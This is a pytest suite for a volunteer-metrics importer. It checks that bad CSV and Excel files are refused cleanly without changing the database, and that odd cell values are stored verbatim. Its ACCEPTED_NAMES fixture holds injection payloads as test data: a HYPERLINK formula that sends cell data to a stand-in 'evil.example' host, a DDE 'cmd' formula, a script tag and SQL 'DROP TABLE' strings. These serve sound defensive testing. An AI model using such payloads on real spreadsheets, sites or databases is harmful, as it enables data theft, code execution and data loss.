"""Bad input: every case ends with a clear message that names the file,
the problem and what to do — through the dashboard's path (importer.import_bytes)
and the CLI (exit 2, one line, no traceback) — and, where nothing was accepted, the
database FILE is byte-for-byte what it was. Cells that are merely odd (formulas,
HTML, emoji, right-to-left text, 5,000 characters, SQL fragments) are accepted and
stored verbatim as text.

The byte-for-byte check: a baseline store is built, closed (DuckDB checkpoints on
close, so the .wal is gone) and hashed; each case copies it, opens it read-write
with db.connect exactly as the app does, imports, closes and hashes again.
"""
from __future__ import annotations

import csv
import hashlib
import io
import os
import shutil
import subprocess
import sys
import zipfile
from dataclasses import dataclass, field
from pathlib import Path

import pandas as pd
import pytest

from engage_metrics import cli, db, export, importer
from engage_metrics.options import ImportOptions
from engage_metrics.reader import files as reader_files

ROOT = Path(__file__).resolve().parents[1]
HEADER = "Email,Name,Event,Date,Status,Hours\n"
GOOD = "ana@x.org,Ana Lopez,Canvass,2024-03-02,attended,2\n"


def csv_bytes(*rows: list[str]) -> bytes:
    out = io.StringIO()
    csv.writer(out, lineterminator="\n").writerows(rows)
    return out.getvalue().encode("utf-8")


def xlsx(sheets: dict[str, pd.DataFrame]) -> bytes:
    buffer = io.BytesIO()
    with pd.ExcelWriter(buffer, engine="openpyxl") as book:
        for name, frame in sheets.items():
            frame.to_excel(book, sheet_name=name, index=False)
    return buffer.getvalue()


def ole_file(*stream_names: str) -> bytes:
    """A minimal OLE compound file (what an encrypted .xlsx and an old .xls are): the
    D0 CF 11 E0 signature, a 512-byte header and a directory sector naming the streams."""
    header = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 16 + b"\x3e\x00\x03\x00\xfe\xff"
    header = header.ljust(512, b"\x00")
    directory = b"".join(n.encode("utf-16-le").ljust(64, b"\x00") + b"\x00" * 64
                         for n in ("Root Entry", *stream_names))
    return header + directory.ljust(512, b"\x00")


def zip_of(name: str, content: bytes) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as zf:
        zf.writestr(name, content)
    return buffer.getvalue()


@dataclass
class Case:
    """A file that must be refused: `problem` and `action` are words the message must hold."""

    id: str
    file_name: str
    data: bytes
    problem: str
    action: str
    options: dict = field(default_factory=dict)
    env: dict = field(default_factory=dict)


def rows_with(*lines: str) -> bytes:
    return (HEADER + "".join(lines)).encode("utf-8")


REFUSED = [
    Case("zero-bytes", "empty.csv", b"", "empty", "export it again"),
    Case("whitespace-only", "blank.csv", b"\n \r\n\t\n", "empty", "export it again"),
    Case("header-only", "header.csv", HEADER.encode(), "no data rows", "export it again"),
    Case("header-and-blank-lines", "blanks.csv", (HEADER + "\n,,,,,\n\n").encode(),
         "no data rows", "export it again"),
    Case("footer-only", "sf.csv", (HEADER + "Grand Totals (0 records),,,,,\n"
                                   "Confidential Information - Do Not Distribute\n").encode(),
         "every one of the 1 rows was rejected", "check the column mapping"),
    Case("png-renamed-csv", "photo.csv", b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 4,
         "png image", "export the data as csv"),
    Case("jpeg-renamed-csv", "scan.csv", b"\xff\xd8\xff\xe0" + b"\x10JFIF" * 50,
         "jpeg image", "export the data as csv"),
    Case("pdf-renamed-csv", "report.csv", b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n",
         "pdf document", "export the data as csv"),
    Case("gzip-renamed-csv", "export.csv", b"\x1f\x8b\x08\x00" + b"\x00" * 40,
         "gzip archive", "export the data as csv"),
    Case("zip-renamed-csv", "export.csv", zip_of("export.csv", rows_with(GOOD)),
         "zip archive", "unzip it"),
    Case("nul-bytes", "nul.csv", rows_with("ana@x.org,Ana\x00Lopez,Canvass,2024-03-02,attended,2\n"),
         "nul bytes", "export the data again"),
    Case("encrypted-xlsx", "locked.xlsx", ole_file("EncryptionInfo", "EncryptedPackage"),
         "password-protected", "remove the password"),
    Case("old-xls", "legacy.xls", ole_file("Workbook", "\x05SummaryInformation"),
         "old-style excel (.xls)", "save it as .xlsx"),
    Case("damaged-xlsx", "broken.xlsx", b"PK\x03\x04" + b"\x00" * 60,
         "not a valid .xlsx", "save it again"),
    Case("xlsx-all-sheets-empty", "empty.xlsx", xlsx({"A": pd.DataFrame(), "B": pd.DataFrame()}),
         "every sheet", "export it again"),
    Case("xlsx-unknown-sheet", "book.xlsx",
         xlsx({"One": pd.DataFrame({"Email": ["a@x.org"], "Event": ["E"], "Date": ["2024-01-01"]})}),
         "no sheet named 'Two'", "its sheets are One", options={"sheet": "Two"}),
    Case("over-upload-limit", "huge.csv", rows_with(GOOD) + b"x" * (2 * 2**20),
         "upload limit is 1.0 mb", "split the export", env={"ENGAGE_MAX_UPLOAD_MB": "1"}),
    Case("ten-mb-line", "long.csv",
         rows_with('ana@x.org,"' + "x" * 10_000_000 + ',Canvass,2024-03-02,attended,2\n'),
         "line 2: field larger than field limit", "quote"),
    Case("wrong-delimiter", "pipes.csv",
         b"Email|Name|Event|Date\nana@x.org|Ana|Canvass|2024-03-02\n",
         "only one column was found", "comma-separated"),
    Case("mixed-encodings", "mixed.csv",
         HEADER.encode() + "jose@x.org,José Muñoz,Café,2024-03-02,attended,1\n".encode()
         + "rene@x.org,René Côté,Café,2024-03-02,attended,1\n".encode("cp1252"),
         "mixes text encodings: line 2 is utf-8 but line 3 is not", "csv utf-8"),
    Case("empty-header", "noheader.csv", b",,,\na@x.org,E,2024-01-01,1\n",
         "header row is empty", "column names in the first line"),
    Case("sep-line-only", "sep.csv", b"sep=;\n", "no header row", "export it again"),
    Case("no-identity-column", "events.csv", b"Event,Date,Status\nCanvass,2024-03-02,attended\n",
         "could not find a person column", "map them"),
    Case("no-event-column", "people.csv", b"Email,Date\nana@x.org,2024-03-02\n",
         "an event column", "map them"),
    Case("no-date-column", "nodate.csv", b"Email,Event\nana@x.org,Canvass\n",
         "a date column", "map them"),
    Case("mapping-names-missing-column", "m.csv", rows_with(GOOD.replace("ana", "bea")),
         "column 'Correo'", "its columns are", options={"mapping": {"email": "Correo"}}),
    Case("every-row-invalid", "bad.csv",
         rows_with(",,Canvass,2024-03-02,attended,1\n", "ana@x.org,Ana,,2024-03-02,attended,1\n",
                   "bob@x.org,Bob,Canvass,,attended,1\n"),
         "every one of the 3 rows was rejected", "check the column mapping"),
    Case("dates-1900", "old.csv", rows_with("ana@x.org,Ana,Canvass,1900-01-01,attended,1\n",
                                            "bob@x.org,Bob,Canvass,01/01/1900,attended,1\n"),
         "implausible date '1900-01-01'", "check the column mapping"),
    Case("dates-2100", "future.csv", rows_with("ana@x.org,Ana,Canvass,2100-01-01,attended,1\n"),
         "implausible date '2100-01-01'", "check the column mapping"),
    Case("unparseable-dates", "dates.csv",
         rows_with("ana@x.org,Ana,Canvass,someday,attended,1\n",
                   "bob@x.org,Bob,Canvass,31/31/2024,attended,1\n",
                   "cy@x.org,Cy,Canvass,2024-13-45,attended,1\n"),
         "unparseable date 'someday'", "check the column mapping"),
    Case("negative-hours", "neg.csv", rows_with("ana@x.org,Ana,Canvass,2024-03-02,attended,-3\n"),
         "hours -3 out of range", "check the column mapping"),
    Case("absurd-hours", "absurd.csv",
         rows_with("ana@x.org,Ana,Canvass,2024-03-02,attended,1e308\n",
                   "bob@x.org,Bob,Canvass,2024-03-02,attended,9999\n"),
         "hours 1e308 out of range", "check the column mapping"),
    Case("nan-and-inf-hours", "nan.csv",
         rows_with("ana@x.org,Ana,Canvass,2024-03-02,attended,nan\n",
                   "bob@x.org,Bob,Canvass,2024-03-02,attended,inf\n"),
         "hours nan out of range", "check the column mapping"),
    Case("hours-not-a-number", "hrs.csv", rows_with("ana@x.org,Ana,Canvass,2024-03-02,attended,lots\n"),
         "hours 'lots' is not a number", "check the column mapping"),
    Case("unknown-statuses", "status.csv",
         rows_with("ana@x.org,Ana,Canvass,2024-03-02,Flibbertigibbet,1\n",
                   "bob@x.org,Bob,Canvass,2024-03-02,maybe later,1\n"),
         "unknown status 'flibbertigibbet'", "check the column mapping"),
    Case("blank-statuses", "blankstatus.csv", rows_with("ana@x.org,Ana,Canvass,2024-03-02,,1\n"),
         "blank status", "check the column mapping"),
    Case("invalid-emails-only", "emails.csv", b"Email,Event,Date\nnot-an-email,Canvass,2024-03-02\n",
         "invalid email 'not-an-email'", "check the column mapping"),
    Case("ask-rungs-out-of-range", "asks.csv", b"Email,Date,Ask,Rung,Outcome\n"
                                               b"ana@x.org,2024-03-02,Knock doors,9,yes\n",
         "rung", "check the column mapping", options={"kind": "ask"}),
    Case("unknown-kind", "x.csv", rows_with(GOOD.replace("ana", "cy")), "unknown file kind 'donations'", "use one of",
         options={"kind": "donations"}),
]


@pytest.fixture(scope="module")
def baseline(tmp_path_factory) -> Path:
    """A store with one earlier import, closed (checkpointed): the state to protect."""
    path = tmp_path_factory.mktemp("baseline") / "engage.duckdb"
    con = db.connect(path)
    result = importer.import_bytes(con, rows_with(GOOD), "earlier.csv")
    assert result.status == "imported"
    con.close()
    assert not Path(f"{path}.wal").exists()
    return path


def file_hash(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


@pytest.fixture
def store_file(baseline: Path, tmp_path: Path) -> Path:
    path = tmp_path / "engage.duckdb"
    shutil.copyfile(baseline, path)
    return path


@pytest.mark.parametrize("case", REFUSED, ids=[c.id for c in REFUSED])
def test_refused_through_the_dashboard_path(case: Case, store_file: Path, monkeypatch):
    for key, value in case.env.items():
        monkeypatch.setenv(key, value)
    before = file_hash(store_file)
    con = db.connect(store_file)                       # read-write, exactly as the app does
    result = importer.import_bytes(con, case.data, case.file_name, ImportOptions(**case.options))
    con.close()
    assert result.status == "failed"
    assert case.file_name in result.summary()
    message = result.message.lower()
    assert case.problem.lower() in message, result.message
    assert case.action.lower() in message, result.message
    assert "traceback" not in message
    assert file_hash(store_file) == before
    assert not Path(f"{store_file}.wal").exists()
    if result.rejected:            # every rejected row is still there to download
        assert len(result.rejected_rows) == result.rejected
        assert export.to_csv_bytes(result.rejected_rows).count(b"\r\n") == result.rejected + 1


CLI_CASES = [c for c in REFUSED if c.options.get("kind") != "donations"]


@pytest.mark.parametrize("case", CLI_CASES, ids=[c.id for c in CLI_CASES])
def test_refused_through_the_cli(case: Case, store_file: Path, tmp_path: Path, monkeypatch, capsys):
    for key, value in case.env.items():
        monkeypatch.setenv(key, value)
    path = tmp_path / case.file_name
    path.write_bytes(case.data)
    args = ["import", "--db", str(store_file), str(path)]
    if "sheet" in case.options:
        args[1:1] = ["--sheet", case.options["sheet"]]
    if "kind" in case.options:
        args[1:1] = ["--kind", case.options["kind"]]
    if "mapping" in case.options:
        mapping = tmp_path / "mapping.json"
        mapping.write_text('{"email": "Correo"}')
        args[1:1] = ["--mapping", str(mapping)]
    before = file_hash(store_file)
    assert cli.main(args) == cli.EXIT_ERROR
    err = capsys.readouterr().err
    assert err.count("\n") == 1 and err.startswith("error: nothing imported: ")
    assert case.file_name in err and case.problem.lower() in err.lower()
    assert file_hash(store_file) == before


def test_cli_subprocess_one_line_no_traceback(baseline: Path, tmp_path: Path):
    """A real process: several refused files (one a sparse 500 MB file, refused from its
    size alone) give exit code 2 and one line on stderr, and the store is unchanged."""
    store_file = tmp_path / "engage.duckdb"
    shutil.copyfile(baseline, store_file)
    files = []
    for case in REFUSED[:12]:
        path = tmp_path / f"{case.id}-{case.file_name}"
        path.write_bytes(case.data)
        files.append(path)
    big = tmp_path / "export-500mb.csv"
    with big.open("wb") as f:
        f.write(HEADER.encode())
        f.truncate(500 * 2**20)                    # sparse: nothing is really written
    files.append(big)
    before = file_hash(store_file)
    proc = subprocess.run([sys.executable, "-m", "engage_metrics", "import", "--db",
                           str(store_file), *map(str, files)],
                          capture_output=True, text=True, cwd=ROOT, timeout=60,
                          env={**os.environ, "ENGAGE_MAX_UPLOAD_MB": ""})
    assert proc.returncode == 2, proc.stderr
    assert "Traceback" not in proc.stderr + proc.stdout
    assert proc.stderr.count("\n") == 1
    assert "export-500mb.csv is 500.0 MB; the upload limit is 200.0 MB" in proc.stderr
    assert all(p.name in proc.stderr for p in files)
    assert file_hash(store_file) == before


def test_oversized_upload_is_refused_before_it_is_read(store_file: Path, tmp_path: Path,
                                                       monkeypatch):
    """The CLI path checks the size with stat() and never reads the file; the upload
    path checks len(data) before decoding a byte."""
    big = tmp_path / "big.csv"
    with big.open("wb") as f:
        f.truncate(500 * 2**20)

    def must_not_read(*_args, **_kwargs):
        raise AssertionError("the oversized file was read")
    con = db.connect(store_file)
    monkeypatch.setattr(Path, "read_bytes", must_not_read)
    [result] = importer.import_files(con, [big])
    monkeypatch.undo()
    assert result.status == "failed" and "upload limit is 200.0 MB" in result.message
    monkeypatch.setenv("ENGAGE_MAX_UPLOAD_MB", "0.5")
    monkeypatch.setattr(reader_files, "decode", must_not_read)
    result = importer.import_bytes(con, b"x" * 2**20, "upload.csv")
    assert result.status == "failed" and "upload limit is 0.5 MB" in result.message
    con.close()


# ------------------------------------------------------ accepted and stored verbatim

ACCEPTED_NAMES = {
    "formula-equals": '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "formula-plus": "+1+cmd|' /C calc'!A0",
    "formula-minus": "-2+3",
    "formula-at": "@SUM(A1:A9)",
    "html-script": "<script>alert('x')</script><b>Ana</b>",
    "emoji": "Ana 🎉 López 👩🏽‍💻",
    "right-to-left": "مريم العربي",
    # a bidirectional override is stripped from names (tests/test_render_text.py)
    "five-thousand-chars": "N" * 5000,
    "sql-fragment": "'; DROP TABLE person; --",
    "sql-quotes": "Robert'); DROP TABLE participation;-- \"Bobby\"",
    "newline-in-cell": "Ana\nLopez",
    "form-feed-and-line-separator": "Ana\x0cLopez\u2028Jr",
}


@pytest.mark.parametrize("name", list(ACCEPTED_NAMES.values()), ids=list(ACCEPTED_NAMES))
def test_odd_names_are_accepted_and_stored_verbatim(store, name: str):
    data = csv_bytes(["Email", "Name", "Event", "Date"], ["odd@x.org", name, "Canvass", "2024-03-02"],
                     ["bad@x.org", name, "Canvass", "never"])
    result = importer.import_bytes(store, data, "odd.csv")
    assert (result.status, result.accepted, result.rejected) == ("imported", 1, 1)
    assert store.execute("SELECT full_name FROM person").fetchall() == [(name,)]
    assert store.execute("SELECT COUNT(*) FROM participation").fetchone()[0] == 1
    # the rejected row is kept and downloadable, with formulas neutralized in the CSV
    rejected = importer.rejected_rows(store, result.import_id)
    assert rejected["line_no"].tolist() == [3 + name.count("\n")]   # line of the row's start
    assert next(csv.reader(io.StringIO(rejected["raw"][0])))[1] == name
    text = export.to_csv_bytes(rejected).decode("utf-8-sig")
    assert not any(cell.startswith(export.FORMULA_STARTS)
                   for row in csv.reader(io.StringIO(text)) for cell in row)


def test_partly_bad_file_keeps_the_good_rows_and_lists_the_rest(store):
    data = rows_with(GOOD, "bob@x.org,Bob,Canvass,1900-01-01,attended,1\n",
                     "cy@x.org,Cy,Canvass,2100-01-01,attended,1\n",
                     "di@x.org,Di,Canvass,2024-03-02,Flibbertigibbet,1\n",
                     "ed@x.org,Ed,Canvass,2024-03-02,attended,-1\n")
    result = importer.import_bytes(store, data, "mixed.csv")
    assert (result.status, result.accepted, result.rejected) == ("imported", 1, 4)
    assert importer.rejected_rows(store)["line_no"].tolist() == [3, 4, 5, 6]
    assert "4 rejected" in result.summary()


def test_duplicate_column_names_are_flagged_and_the_choice_is_explicit(store):
    data = b"Email,Email,Event,Date\nfirst@x.org,second@x.org,Canvass,2024-03-02\n"
    result = importer.import_bytes(store, data, "dup.csv")
    assert result.status == "imported"
    assert any("repeats 'Email'" in n and "'Email (2)'" in n for n in result.notes)
    assert store.execute("SELECT email FROM person").fetchall() == [("first@x.org",)]
    # the analyst can map the second one instead
    result = importer.import_bytes(store, data.replace(b"Canvass", b"Rally"), "dup2.csv",
                                   ImportOptions(mapping={"email": "Email (2)"}))
    assert result.mapping["email"] == "Email (2)"
    assert sorted(store.execute("SELECT email FROM person").fetchall()) == [
        ("first@x.org",), ("second@x.org",)]


def test_multi_sheet_workbook_reads_its_sheets_of_one_layout_and_says_so_or_the_chosen_one(store):
    # issue 13 (layout): sheets of the same layout are one import by default (this test
    # said before that the first sheet alone was read); --sheet still picks one
    book = xlsx({"Spring": pd.DataFrame({"Email": ["a@x.org"], "Event": ["Canvass"],
                                         "Date": ["2024-03-02"]}),
                 "Empty": pd.DataFrame(),
                 "Fall": pd.DataFrame({"Email": ["b@x.org"], "Event": ["Rally"],
                                       "Date": ["2024-10-02"]})})
    first = importer.import_bytes(store, book, "season.xlsx")
    assert (first.status, first.accepted) == ("imported", 2)
    assert any("read 2 sheets of the same layout into one import: 'Spring', 'Fall'" in n
               for n in first.notes)
    assert sorted(store.execute("SELECT email FROM person").fetchall()) == [("a@x.org",), ("b@x.org",)]
    # one sheet chosen is its own import, not a duplicate of the whole workbook
    fall = importer.import_bytes(store, book, "season.xlsx", ImportOptions(sheet="Fall"))
    assert (fall.status, fall.accepted) == ("imported", 1)
    again = importer.import_bytes(store, book, "season.xlsx", ImportOptions(sheet="Fall"))
    assert again.status == "duplicate"
    assert importer.import_bytes(store, book, "season.xlsx").status == "duplicate"


def test_utf16_text_export_is_read(store):
    data = "Email\tName\tEvent\tDate\r\nrene@x.org\tRené Côté\tCafé\t2024-03-02\r\n".encode("utf-16")
    result = importer.import_bytes(store, data, "unicode.txt")
    assert result.status == "imported", result.message
    assert store.execute("SELECT full_name FROM person").fetchall() == [("René Côté",)]


def test_same_person_with_conflicting_names_latest_import_wins(store):
    first = importer.import_bytes(store, b"Email,Name,Event,Date\nana@x.org,Ana Lopez,E1,2024-01-01\n",
                                  "january.csv")
    second = importer.import_bytes(store, b"Email,Name,Event,Date\nANA@x.org ,Ana Lopez-Ruiz,E2,2024-02-01\n",
                                   "february.csv")
    assert (first.status, second.status) == ("imported", "imported")
    assert store.execute("SELECT full_name, email FROM person").fetchall() == [
        ("Ana Lopez-Ruiz", "ana@x.org")]
    # undoing the later import brings the earlier name back
    importer.undo_import(store, second.import_id)
    assert store.execute("SELECT full_name FROM person").fetchall() == [("Ana Lopez",)]
